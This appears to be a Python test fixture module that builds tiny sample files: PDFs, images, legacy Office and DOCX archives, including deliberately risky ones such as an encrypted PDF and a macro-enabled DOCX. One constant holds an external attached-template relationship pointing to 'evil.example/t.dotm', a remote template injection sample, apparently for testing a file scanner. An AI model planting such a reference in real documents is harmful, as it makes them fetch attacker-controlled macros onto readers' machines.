"""Small files of each kind, as a word processor or a scanner would make them, and harmful ones."""

from __future__ import annotations

import io
import zipfile

PDF = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
LOCKED_PDF = PDF.replace(b"<< /Root 1 0 R >>", b"<< /Root 1 0 R /Encrypt 5 0 R >>")
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF" + b"\0" * 20
PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 20
OLD_DOC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512
TYPES = "<Types><Override PartName='/word/document.xml' ContentType='application/{}'/></Types>"
PLAIN = TYPES.format("vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml")
WITH_MACROS = TYPES.format("vnd.ms-word.document.macroEnabled.main+xml")
ELSEWHERE = (
    "<Relationships><Relationship Type='http://x/attachedTemplate' TargetMode='External' "
    "Target='http://evil.example/t.dotm'/></Relationships>"
)


def zip_of(parts: dict[str, bytes]) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return made.getvalue()


def docx(types: str = PLAIN, **more: bytes) -> bytes:
    """Return a document; `more` are parts by name."""
    parts = {"[Content_Types].xml": types.encode(), "word/document.xml": b"<document/>"}
    return zip_of(parts | more)
